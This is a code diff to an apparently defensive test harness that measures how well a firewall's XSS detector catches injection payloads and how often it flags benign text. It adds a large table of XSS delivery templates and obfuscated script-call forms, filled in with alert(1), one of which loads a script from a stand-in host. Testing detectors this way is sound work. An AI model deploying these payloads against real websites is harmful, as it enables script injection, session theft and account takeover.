@@ -19,12 +19,13 @@
 
 use std::path::{Path, PathBuf};
 
-use super::{detect, load, show};
+use super::{detect, load, show, wilson};
 
 /// Prints both measures (called from `waf_corpus_report`).
 pub(super) fn report() {
     let verbose = std::env::var_os("GWC_WAF_XSS").is_some_and(|v| v == "show");
     variation_report(verbose);
+    vehicle_report(verbose);
     benign_report(verbose);
 }
 
@@ -201,36 +202,158 @@ fn scheme_in(p: &[u8], (s, e): (usize, usize)) -> Option<usize> {
 /// handlers), Pointer Events, CSS animations and transitions, Touch Events, selection and
 /// SVG animation (SMIL) events.
 const EVENT_HANDLERS: &[&str] = &[
-    "onabort", "onafterprint", "onanimationcancel", "onanimationend", "onanimationiteration",
-    "onanimationstart", "onauxclick", "onbeforecopy", "onbeforecut", "onbeforeinput",
-    "onbeforematch", "onbeforeprint", "onbeforetoggle", "onbeforeunload", "onbegin", "onblur",
-    "oncancel", "oncanplay", "oncanplaythrough", "onchange", "onclick", "onclose", "oncommand",
-    "oncontextlost", "oncontextmenu", "oncontextrestored", "oncopy", "oncuechange", "oncut",
-    "ondblclick", "ondrag", "ondragend", "ondragenter", "ondragleave", "ondragover",
-    "ondragstart", "ondrop", "ondurationchange", "onemptied", "onend", "onended", "onerror",
-    "onfocus", "onfocusin", "onfocusout", "onformdata", "onfullscreenchange",
-    "ongotpointercapture", "onhashchange", "oninput", "oninvalid", "onkeydown", "onkeypress",
-    "onkeyup", "onlanguagechange", "onload", "onloadeddata", "onloadedmetadata", "onloadstart",
-    "onlostpointercapture", "onmessage", "onmessageerror", "onmousedown", "onmouseenter",
-    "onmouseleave", "onmousemove", "onmouseout", "onmouseover", "onmouseup", "onoffline",
-    "ononline", "onpagehide", "onpagereveal", "onpageshow", "onpageswap", "onpaste", "onpause",
-    "onplay", "onplaying", "onpointercancel", "onpointerdown", "onpointerenter",
-    "onpointerleave", "onpointermove", "onpointerout", "onpointerover", "onpointerrawupdate",
-    "onpointerup", "onpopstate", "onprogress", "onratechange", "onrejectionhandled", "onrepeat",
-    "onreset", "onresize", "onscroll", "onscrollend", "onsearch", "onsecuritypolicyviolation",
-    "onseeked", "onseeking", "onselect", "onselectionchange", "onselectstart", "onslotchange",
-    "onstalled", "onstorage", "onsubmit", "onsuspend", "ontimeupdate", "ontoggle",
-    "ontouchcancel", "ontouchend", "ontouchmove", "ontouchstart", "ontransitioncancel",
-    "ontransitionend", "ontransitionrun", "ontransitionstart", "onunhandledrejection",
-    "onunload", "onvolumechange", "onwaiting", "onwebkitanimationend",
-    "onwebkitanimationstart", "onwebkittransitionend", "onwheel",
+    "onabort",
+    "onafterprint",
+    "onanimationcancel",
+    "onanimationend",
+    "onanimationiteration",
+    "onanimationstart",
+    "onauxclick",
+    "onbeforecopy",
+    "onbeforecut",
+    "onbeforeinput",
+    "onbeforematch",
+    "onbeforeprint",
+    "onbeforetoggle",
+    "onbeforeunload",
+    "onbegin",
+    "onblur",
+    "oncancel",
+    "oncanplay",
+    "oncanplaythrough",
+    "onchange",
+    "onclick",
+    "onclose",
+    "oncommand",
+    "oncontextlost",
+    "oncontextmenu",
+    "oncontextrestored",
+    "oncopy",
+    "oncuechange",
+    "oncut",
+    "ondblclick",
+    "ondrag",
+    "ondragend",
+    "ondragenter",
+    "ondragleave",
+    "ondragover",
+    "ondragstart",
+    "ondrop",
+    "ondurationchange",
+    "onemptied",
+    "onend",
+    "onended",
+    "onerror",
+    "onfocus",
+    "onfocusin",
+    "onfocusout",
+    "onformdata",
+    "onfullscreenchange",
+    "ongotpointercapture",
+    "onhashchange",
+    "oninput",
+    "oninvalid",
+    "onkeydown",
+    "onkeypress",
+    "onkeyup",
+    "onlanguagechange",
+    "onload",
+    "onloadeddata",
+    "onloadedmetadata",
+    "onloadstart",
+    "onlostpointercapture",
+    "onmessage",
+    "onmessageerror",
+    "onmousedown",
+    "onmouseenter",
+    "onmouseleave",
+    "onmousemove",
+    "onmouseout",
+    "onmouseover",
+    "onmouseup",
+    "onoffline",
+    "ononline",
+    "onpagehide",
+    "onpagereveal",
+    "onpageshow",
+    "onpageswap",
+    "onpaste",
+    "onpause",
+    "onplay",
+    "onplaying",
+    "onpointercancel",
+    "onpointerdown",
+    "onpointerenter",
+    "onpointerleave",
+    "onpointermove",
+    "onpointerout",
+    "onpointerover",
+    "onpointerrawupdate",
+    "onpointerup",
+    "onpopstate",
+    "onprogress",
+    "onratechange",
+    "onrejectionhandled",
+    "onrepeat",
+    "onreset",
+    "onresize",
+    "onscroll",
+    "onscrollend",
+    "onsearch",
+    "onsecuritypolicyviolation",
+    "onseeked",
+    "onseeking",
+    "onselect",
+    "onselectionchange",
+    "onselectstart",
+    "onslotchange",
+    "onstalled",
+    "onstorage",
+    "onsubmit",
+    "onsuspend",
+    "ontimeupdate",
+    "ontoggle",
+    "ontouchcancel",
+    "ontouchend",
+    "ontouchmove",
+    "ontouchstart",
+    "ontransitioncancel",
+    "ontransitionend",
+    "ontransitionrun",
+    "ontransitionstart",
+    "onunhandledrejection",
+    "onunload",
+    "onvolumechange",
+    "onwaiting",
+    "onwebkitanimationend",
+    "onwebkitanimationstart",
+    "onwebkittransitionend",
+    "onwheel",
 ];
 
 /// Elements an event-handler attribute can sit on: void, form, media, interactive, SVG and
 /// custom elements (a handler attribute is script whatever the element).
 const HANDLER_TAGS: &[&str] = &[
-    "video", "audio", "details", "body", "input", "select", "textarea", "marquee", "div", "p",
-    "span", "a", "svg", "object", "x", "custom-element", "button", "keygen", "style", "frameset",
+    "video",
+    "audio",
+    "details",
+    "body",
+    "input",
+    "select",
+    "textarea",
+    "marquee",
+    "div",
+    "p",
+    "span",
+    "a",
+    "svg",
+    "object",
+    "x",
+    "custom-element",
+    "button",
+    "keygen",
+    "style",
+    "frameset",
 ];
 
 /// Element and URL-attribute pairs that navigate to or load their URL (a `javascript:` URL
@@ -292,7 +415,158 @@ const SINK_FORMS: &[&str] = &[
     "document.body.innerHTML={q}<img src=x>{q}",
     "document.body.insertAdjacentHTML({q}beforeend{q},{q}<b>{q})",
     "eval(atob({q}YWxlcnQoMSk={q}))",
+    // String building and indirect calls.
+    "window[{q}al{q}+{q}ert{q}]({a})",
+    "top[atob({q}YWxlcnQ={q})]({a})",
+    "window[String.fromCharCode(97,108,101,114,116)]({a})",
+    "[{a}].find({f})",
+    "[{a}].map({f})",
+    "Promise.resolve({a}).then({f})",
+    "onerror={f};throw {a}",
+    "throw onerror={f},{a}",
+    "x={f},x({a})",
+    "new class{constructor(){{c}}}",
+    "(()=>{{c}})()",
+    "eval.call(null,{q}{c}{q})",
+    "globalThis[{q}ev{q}+{q}al{q}]({q}{c}{q})",
+    "eval(name)",
+    "eval(location.hash.slice(1))",
+    "setTimeout(name)",
+    "location=name",
+    "$.globalEval({q}{c}{q})",
+    "document.head.append(Object.assign(document.createElement({q}script{q}),{src:{q}//x.example{q}}))",
+    "with(document)body.appendChild(createElement({q}script{q})).src={q}//x.example{q}",
 ];
+
+/// Places a script runs from, from the HTML standard, SVG, MathML, CSS and JS contexts (a
+/// string, a template, an attribute, a comment): `{c}` is the script (a call), `{b}` a
+/// base64 document running it.
+const VEHICLES: &[&str] = &[
+    "<script>{c}</script>",
+    "<script src=data:,{c}></script>",
+    "<img src=x onerror=\"{c}\">",
+    "<img srcset=x onerror=\"{c}\">",
+    "<input type=image src=x onerror=\"{c}\">",
+    "<svg onload=\"{c}\">",
+    "<svg><script>{c}</script></svg>",
+    "<svg><animate onbegin=\"{c}\" attributeName=x dur=1s>",
+    "<svg><discard onbegin=\"{c}\">",
+    "<svg><set attributeName=href to=\"javascript:{c}\" /></svg>",
+    "<svg><a xlink:href=\"javascript:{c}\"><text x=20 y=20>x</text></a></svg>",
+    "<math><mtext><a href=\"javascript:{c}\">x</a></mtext></math>",
+    "<math href=\"javascript:{c}\">x</math>",
+    "<math><maction actiontype=statusline xlink:href=\"javascript:{c}\">x</maction></math>",
+    "<iframe src=\"javascript:{c}\"></iframe>",
+    "<iframe srcdoc=\"&lt;script&gt;{c}&lt;/script&gt;\"></iframe>",
+    "<iframe src=\"data:text/html;base64,{b}\"></iframe>",
+    "<object data=\"javascript:{c}\"></object>",
+    "<object data=\"data:text/html;base64,{b}\"></object>",
+    "<embed src=\"javascript:{c}\">",
+    "<embed src=\"data:text/html;base64,{b}\">",
+    "<a href=\"javascript:{c}\">x</a>",
+    "<a href=\"&#106;avascript:{c}\">x</a>",
+    "<a href=\" &#14; javascript:{c}\">x</a>",
+    "<a href=\"data:text/html;base64,{b}\">x</a>",
+    "<form action=\"javascript:{c}\"><input type=submit></form>",
+    "<form><button formaction=\"javascript:{c}\">x</button></form>",
+    "<details open ontoggle=\"{c}\">",
+    "<body onload=\"{c}\">",
+    "<frameset onload=\"{c}\">",
+    "<input autofocus onfocus=\"{c}\">",
+    "<select autofocus onfocus=\"{c}\">",
+    "<textarea autofocus onfocus=\"{c}\"></textarea>",
+    "<video><source onerror=\"{c}\"></video>",
+    "<audio src=x onerror=\"{c}\">",
+    "<marquee onstart=\"{c}\">x</marquee>",
+    "<div onpointerover=\"{c}\">x</div>",
+    "<x contenteditable onbeforeinput=\"{c}\">x</x>",
+    "<x style=\"animation-name:y\" onanimationstart=\"{c}\">",
+    "<style onload=\"{c}\"></style>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{c}\">",
+    "<base href=\"javascript:{c}//\">",
+    "<table background=\"javascript:{c}\">",
+    "<div style=\"background:url(javascript:{c})\">",
+    "<div style=\"width:expression({c})\">",
+    "<!--<img src=\"--><img src=x onerror=\"{c}\"//\">",
+    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
+    "<![CDATA[<script>{c}</script>]]>",
+    "';{c};//",
+    "\";{c};//",
+    "'-{c}-'",
+    "\"+{c}+\"",
+    "\\';{c}//",
+    "</script><script>{c}</script>",
+    "${{c}}",
+    "{{constructor.constructor(`{c}`)()}}",
+    "javascript:{c}",
+    "\" onmouseover=\"{c}",
+    "' onfocus='{c}' autofocus '",
+    "\"><img src=x onerror=\"{c}\">",
+    "'><svg onload=\"{c}\">",
+    "\" autofocus onfocus=\"{c}\" x=\"",
+];
+
+fn base64(b: &[u8]) -> String {
+    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in b.chunks(3) {
+        let n = chunk
+            .iter()
+            .enumerate()
+            .fold(0u32, |acc, (k, &x)| acc | u32::from(x) << (16 - 8 * k));
+        for k in 0..4 {
+            if k <= chunk.len() {
+                out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// Every vehicle with every sink form of `alert(1)`: the reference matrix, independent of
+/// the rows. Returns (caught, total).
+fn vehicle_report(verbose: bool) {
+    let (mut caught, mut total) = (0, 0);
+    let mut per_vehicle = Vec::new();
+    for v in VEHICLES {
+        let (mut k, mut n) = (0, 0);
+        for form in SINK_FORMS.iter().chain(["alert(1)"].iter()) {
+            let c = form
+                .replace("{f}", "alert")
+                .replace("{a}", "1")
+                .replace("{c}", "alert(1)")
+                .replace("{q}", "'");
+            let b = base64(format!("<script>{c}</script>").as_bytes());
+            let payload = v.replace("{c}", &c).replace("{b}", &b);
+            let hit = detect::xss(payload.as_bytes());
+            k += usize::from(hit);
+            n += 1;
+            if !hit && verbose {
+                println!("VEHICLE MISSED: {}", payload.escape_debug());
+            }
+        }
+        caught += k;
+        total += n;
+        per_vehicle.push((v, k, n));
+    }
+    let weak: Vec<String> = per_vehicle
+        .iter()
+        .filter(|(_, k, n)| k < n)
+        .map(|(v, k, n)| format!("{v} {k}/{n}"))
+        .collect();
+    println!(
+        "{}",
+        show(
+            "xss reference vehicles x sink forms detected",
+            (caught, total)
+        )
+    );
+    if !weak.is_empty() {
+        println!("  vehicles with misses: {}", weak.join(" | "));
+    }
+}
 
 /// Each call of a dialog sink in `p`: (start, name end, end after `)`).
 fn sink_calls(p: &[u8]) -> Vec<(usize, usize, usize)> {
@@ -348,7 +622,8 @@ fn free_quote(p: &[u8], inner: &[u8]) -> Option<u8> {
 /// A small deterministic choice: `k` of `all`, picked by the payload's hash.
 fn pick<'a, T>(all: &'a [T], p: &[u8], k: usize) -> impl Iterator<Item = &'a T> {
     let h = super::fnv(p) as usize;
-    (0..k.min(all.len())).map(move |n| &all[(h / 7 + n * (all.len() / k.max(1)).max(1)) % all.len()])
+    (0..k.min(all.len()))
+        .map(move |n| &all[(h / 7 + n * (all.len() / k.max(1)).max(1)) % all.len()])
 }
 
 fn percent_encode(p: &[u8], all: bool) -> Vec<u8> {
@@ -400,7 +675,11 @@ fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
     }
     let edits = tags
         .iter()
-        .filter_map(|t| t.gaps.first().filter(|g| g.0 == t.name.1 && t.name.1 > t.name.0))
+        .filter_map(|t| {
+            t.gaps
+                .first()
+                .filter(|g| g.0 == t.name.1 && t.name.1 > t.name.0)
+        })
         .filter(|g| p[g.0..g.1].iter().all(|&b| is_space(b)))
         .map(|&g| (g, b"/".to_vec()))
         .collect();
@@ -434,7 +713,10 @@ fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
 
     // URL encodings, as a query value carries the payload.
     out.push(("percent-encoded", Some(percent_encode(p, false))));
-    out.push(("percent-encoded twice", Some(percent_encode(&percent_encode(p, false), false))));
+    out.push((
+        "percent-encoded twice",
+        Some(percent_encode(&percent_encode(p, false), false)),
+    ));
 
     // HTML character references inside handler and URL values (the attribute value is
     // decoded before it is run or followed): decimal, hex without `;`, zero-padded, named.
@@ -471,7 +753,7 @@ fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
                     (1, _) => format!("&#x{b:x}"),
                     (2, _) if next.is_ascii_digit() => format!("&#{b:07};"),
                     (2, _) => format!("&#{b:07}"),
-                    (_, Some(n)) => n.to_string(),
+                    (_, Some(n)) => (*n).to_owned(),
                     (_, None) => format!("&#{b};"),
                 };
                 edits.push(((s + k, s + k + 1), with.into_bytes()));
@@ -522,7 +804,7 @@ fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
         let f = String::from_utf8_lossy(&p[s..open]).into_owned();
         let a = String::from_utf8_lossy(&p[open + 1..close - 1]).into_owned();
         let c = String::from_utf8_lossy(&p[s..close]).into_owned();
-        for form in pick(SINK_FORMS, p, 8) {
+        for form in SINK_FORMS {
             let q = if form.contains("{q}") {
                 match free_quote(p, c.as_bytes()) {
                     Some(q) => q as char,
@@ -536,7 +818,10 @@ fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
                 .replace("{a}", &a)
                 .replace("{c}", &c)
                 .replace("{q}", &q.to_string());
-            out.push(("sibling sink", splice(p, vec![((s, close), with.into_bytes())])));
+            out.push((
+                "sibling sink",
+                splice(p, vec![((s, close), with.into_bytes())]),
+            ));
         }
     }
 
@@ -550,11 +835,17 @@ fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
             continue;
         };
         for e in pick(EVENT_HANDLERS, p, 6) {
-            out.push(("sibling event handler", splice(p, vec![(h.name, e.as_bytes().to_vec())])));
+            out.push((
+                "sibling event handler",
+                splice(p, vec![(h.name, e.as_bytes().to_vec())]),
+            ));
         }
         if t.name.1 > t.name.0 {
             for n in pick(HANDLER_TAGS, p, 4) {
-                out.push(("sibling tag", splice(p, vec![(t.name, n.as_bytes().to_vec())])));
+                out.push((
+                    "sibling tag",
+                    splice(p, vec![(t.name, n.as_bytes().to_vec())]),
+                ));
             }
         }
         break;
@@ -563,7 +854,8 @@ fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
     // Sibling URL attributes for a tag whose URL is a script URL.
     for t in &tags {
         let Some(a) = t.attrs.iter().find(|a| {
-            a.value.is_some_and(|(v, _)| scheme_in(p, v).is_some()) && !lower(p, a.name).starts_with(b"on")
+            a.value.is_some_and(|(v, _)| scheme_in(p, v).is_some())
+                && !lower(p, a.name).starts_with(b"on")
         }) else {
             continue;
         };
@@ -575,16 +867,17 @@ fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
                 "sibling URL attribute",
                 splice(
                     p,
-                    vec![(t.name, tag.as_bytes().to_vec()), (a.name, attr.as_bytes().to_vec())],
+                    vec![
+                        (t.name, tag.as_bytes().to_vec()),
+                        (a.name, attr.as_bytes().to_vec()),
+                    ],
                 ),
             ));
         }
         break;
     }
 
-    out.into_iter()
-        .filter_map(|(k, v)| Some((k, v?)))
-        .collect()
+    out.into_iter().filter_map(|(k, v)| Some((k, v?))).collect()
 }
 
 fn variation_report(verbose: bool) {
@@ -617,7 +910,10 @@ fn variation_report(verbose: bool) {
     for (kind, k, n) in kinds {
         println!("  {}", show(kind, (k, n)));
     }
-    println!("{}", show("xss variants detected when their row is", (caught, total)));
+    println!(
+        "{}",
+        show("xss variants detected when their row is", (caught, total))
+    );
 }
 
 // ---------------------------------------------------------------------------------------
@@ -658,7 +954,7 @@ fn text_lines(text: &str, out: &mut Vec<String>, per_file: usize) {
         if t.len() < 6 || t.len() > 400 || !t.bytes().any(|b| b.is_ascii_alphabetic()) {
             continue;
         }
-        out.push(t.to_string());
+        out.push(t.to_owned());
         n += 1;
         if n >= per_file {
             break;
@@ -691,9 +987,29 @@ fn html_text(html: &str) -> String {
 /// comparisons and arrows, emoticons, e-mail addresses in angle brackets, generic types,
 /// shell redirections, CSS and query strings.
 fn typed_text() -> Vec<String> {
-    let subjects = ["the price", "x", "n", "my score", "latency", "age", "count", "temp"];
-    let ops = ["<", ">", "<=", ">=", "=", "=>", "->", "<>", "!=", "<<", ">>", "=="];
-    let objects = ["10", "y", "the limit", "2*n", "0.5", "max", "100 ms", "f(x)"];
+    let subjects = [
+        "the price",
+        "x",
+        "n",
+        "my score",
+        "latency",
+        "age",
+        "count",
+        "temp",
+    ];
+    let ops = [
+        "<", ">", "<=", ">=", "=", "=>", "->", "<>", "!=", "<<", ">>", "==",
+    ];
+    let objects = [
+        "10",
+        "y",
+        "the limit",
+        "2*n",
+        "0.5",
+        "max",
+        "100 ms",
+        "f(x)",
+    ];
     let mut out = Vec::new();
     for (i, s) in subjects.iter().enumerate() {
         for (j, o) in ops.iter().enumerate() {
@@ -703,15 +1019,29 @@ fn typed_text() -> Vec<String> {
             out.push(format!("is {s} {o} {obj}? (asking for a friend)"));
         }
     }
-    let faces = ["<3", ":-)", ":)", ":(", ">_<", "<_<", "^_^", ":-P", ";)", "</3", "=)", ":-/", "o_O", ":'("];
-    let lines = ["love this", "thanks so much", "not again", "see you soon", "great job team"];
+    let faces = [
+        "<3", ":-)", ":)", ":(", ">_<", "<_<", "^_^", ":-P", ";)", "</3", "=)", ":-/", "o_O", ":'(",
+    ];
+    let lines = [
+        "love this",
+        "thanks so much",
+        "not again",
+        "see you soon",
+        "great job team",
+    ];
     for (i, f) in faces.iter().enumerate() {
         for l in lines {
             out.push(format!("{l} {f}"));
             out.push(format!("{f} {l} {}", faces[(i + 3) % faces.len()]));
         }
     }
-    let names = ["Ann O'Neil", "Bob Smith", "José García", "Dr. Lee", "support team"];
+    let names = [
+        "Ann O'Neil",
+        "Bob Smith",
+        "José García",
+        "Dr. Lee",
+        "support team",
+    ];
     for (i, n) in names.iter().enumerate() {
         let mail = format!("user{i}@example.org");
         out.push(format!("{n} <{mail}>"));
@@ -720,7 +1050,15 @@ fn typed_text() -> Vec<String> {
         out.push(format!("On Tue, {n} <{mail}> wrote:"));
         out.push(format!("> quoted reply from {n}"));
     }
-    for t in ["Vec<String>", "HashMap<K, V>", "Option<&'a str>", "List<Map<String, Object>>", "std::vector<int>", "Promise<void>", "Array<number>"] {
+    for t in [
+        "Vec<String>",
+        "HashMap<K, V>",
+        "Option<&'a str>",
+        "List<Map<String, Object>>",
+        "std::vector<int>",
+        "Promise<void>",
+        "Array<number>",
+    ] {
         out.push(format!("returns {t} when found"));
         out.push(format!("fn get(&self) -> {t}"));
         out.push(format!("const items: {t} = [];"));
@@ -780,7 +1118,7 @@ fn typed_text() -> Vec<String> {
         "the <title> element and the <body> element",
         "<T extends Comparable<T>> void sort(List<T> list)",
     ] {
-        out.push(c.to_string());
+        out.push((*c).to_owned());
     }
     out
 }
@@ -788,7 +1126,11 @@ fn typed_text() -> Vec<String> {
 /// Where the text comes from: (source label, lines).
 fn benign_sources() -> Vec<(&'static str, Vec<String>)> {
     let mut sources = Vec::new();
-    let read = |p: &Path| std::fs::read(p).ok().map(|b| String::from_utf8_lossy(&b).into_owned());
+    let read = |p: &Path| {
+        std::fs::read(p)
+            .ok()
+            .map(|b| String::from_utf8_lossy(&b).into_owned())
+    };
 
     let doc = Path::new("/usr/share/doc");
     if doc.is_dir() {
@@ -816,7 +1158,11 @@ fn benign_sources() -> Vec<(&'static str, Vec<String>)> {
         .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".rustup")));
     if let Some(book) = home.and_then(|h| {
         let tc = h.join("toolchains");
-        let mut names: Vec<PathBuf> = std::fs::read_dir(&tc).ok()?.flatten().map(|e| e.path()).collect();
+        let mut names: Vec<PathBuf> = std::fs::read_dir(&tc)
+            .ok()?
+            .flatten()
+            .map(|e| e.path())
+            .collect();
         names.sort();
         names
             .into_iter()
@@ -826,7 +1172,8 @@ fn benign_sources() -> Vec<(&'static str, Vec<String>)> {
         let mut lines = Vec::new();
         let keep = |p: &Path| {
             p.extension().is_some_and(|e| e == "html")
-                && p.parent().is_some_and(|d| d.file_name().is_some_and(|n| n == "book"))
+                && p.parent()
+                    .is_some_and(|d| d.file_name().is_some_and(|n| n == "book"))
         };
         for f in files(&book, &keep, 400) {
             if let Some(t) = read(&f) {
@@ -866,12 +1213,17 @@ fn benign_sources() -> Vec<(&'static str, Vec<String>)> {
 /// percent-encoded as a browser submits a form), behind a parameter name.
 fn carried(line: &str) -> [Vec<u8>; 5] {
     let b = line.as_bytes();
-    let plus: Vec<u8> = b.iter().map(|&c| if c == b' ' { b'+' } else { c }).collect();
+    let plus: Vec<u8> = b
+        .iter()
+        .map(|&c| if c == b' ' { b'+' } else { c })
+        .collect();
     let mut form = Vec::with_capacity(b.len() * 2);
     for &c in b {
         match c {
             b' ' => form.push(b'+'),
-            c if c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b'*') => form.push(c),
+            c if c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b'*') => {
+                form.push(c)
+            }
             c => form.extend_from_slice(format!("%{c:02X}").as_bytes()),
         }
     }
@@ -880,12 +1232,25 @@ fn carried(line: &str) -> [Vec<u8>; 5] {
     [b.to_vec(), b.to_ascii_uppercase(), plus, form, q]
 }
 
+/// [`show`] with two decimals: the benign rates are a few in ten thousand.
+fn show_fine(label: &str, (k, n): (usize, usize)) -> String {
+    let (lo, hi) = wilson(k, n);
+    format!(
+        "{label}: {:.3} % ({k}/{n}, 95 % CI {lo:.3}–{hi:.3})",
+        100.0 * k as f64 / n.max(1) as f64
+    )
+}
+
 fn benign_report(verbose: bool) {
     let sources = benign_sources();
     if sources.len() == 1 {
-        crate::tests::skip("no independent benign text on this machine (/usr/share/doc, the Rust book, crate READMEs)");
+        crate::tests::skip(
+            "no independent benign text on this machine (/usr/share/doc, the Rust book, crate READMEs)",
+        );
     }
-    println!("== XSS independent benign text (each line as is, upper case, `+`, form-encoded, q=) ==");
+    println!(
+        "== XSS independent benign text (each line as is, upper case, `+`, form-encoded, q=) =="
+    );
     let mut seen = std::collections::HashSet::new();
     let (mut all_flagged, mut all_total, mut all_lines, mut lines_flagged) = (0, 0, 0, 0);
     for (label, lines) in sources {
@@ -902,13 +1267,21 @@ fn benign_report(verbose: bool) {
                     flagged += 1;
                     any = true;
                     if verbose {
-                        println!("BENIGN FLAGGED ({label}): {}", String::from_utf8_lossy(&v).escape_debug());
+                        println!(
+                            "BENIGN FLAGGED ({label}): {}",
+                            String::from_utf8_lossy(&v).escape_debug()
+                        );
                     }
                 }
             }
             nf += usize::from(any);
         }
-        println!("  {label}: {} lines; {} | {}", n, show("lines flagged in any form", (nf, n)), show("requests flagged", (flagged, total)));
+        println!(
+            "  {label}: {} lines; {} | {}",
+            n,
+            show_fine("lines flagged in any form", (nf, n)),
+            show_fine("requests flagged", (flagged, total))
+        );
         all_flagged += flagged;
         all_total += total;
         all_lines += n;
@@ -916,7 +1289,10 @@ fn benign_report(verbose: bool) {
     }
     println!(
         "{} | {}",
-        show("xss independent benign lines flagged", (lines_flagged, all_lines)),
-        show("requests flagged", (all_flagged, all_total))
+        show_fine(
+            "xss independent benign lines flagged",
+            (lines_flagged, all_lines)
+        ),
+        show_fine("requests flagged", (all_flagged, all_total))
     );
 }
